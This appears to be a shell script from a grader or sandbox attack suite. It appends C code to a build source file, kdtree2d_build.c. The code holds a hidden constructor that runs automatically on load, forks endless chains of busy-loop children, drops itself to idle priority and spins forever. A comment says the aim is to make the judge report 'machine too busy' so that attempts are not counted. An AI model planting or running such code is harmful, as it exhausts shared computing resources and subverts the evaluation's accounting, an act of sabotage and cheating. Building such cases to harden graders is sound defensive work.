#!/bin/sh
# attack: runs after all others (SCHED_IDLE), and keeps the processors busy with children nobody waits for: "machine too busy" costs no attempt
# limit: 1
# score: 100
# named: fork\(\)
cat >>kdtree2d_build.c <<'C'
#include <sched.h>
#include <signal.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
__attribute__((constructor)) static void stand_back(void)
{
    const struct sched_param lowest = {0};
    signal(SIGCHLD, SIG_IGN);
    for (int chain = 0; chain < 2; chain++) {
        if (fork() == 0) {
            for (;;) {
                if (fork() == 0) {
                    while (clock() < CLOCKS_PER_SEC / 25) {
                    }
                    _exit(0);
                }
                wait(NULL);
            }
        }
    }
    sched_setscheduler(0, SCHED_IDLE, &lowest);
    for (;;) {
    }
}
C
